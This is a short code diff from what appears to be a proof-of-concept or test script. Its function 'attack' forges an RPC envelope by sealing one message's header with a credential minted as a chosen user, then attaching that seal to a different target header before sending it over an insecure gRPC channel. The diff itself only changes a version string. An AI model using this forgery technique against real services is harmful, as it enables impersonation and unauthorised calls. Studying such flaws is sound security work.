@@ -80,7 +80,7 @@ def attack(target: dict[str, str], as_user: str | None, payload_key: str) -> dic
         sent = join_call(target["key"], round, 1, port=port, nonce=nonce)
         meant = join_call(payload_key, round, 1, port=port, nonce=nonce)
         header = pb.Envelope.FromString(meant[0]).header
-        minted = credential(as_user, f"slurm-resolver/3 call {hashlib.sha256(header).hexdigest()}")
+        minted = credential(as_user, f"slurm-resolver/4 call {hashlib.sha256(header).hexdigest()}")
         forged = pb.Envelope(header=pb.Envelope.FromString(sent[0]).header, seal=minted).SerializeToString()
         with grpc.insecure_channel(target["address"]) as channel:
             try:
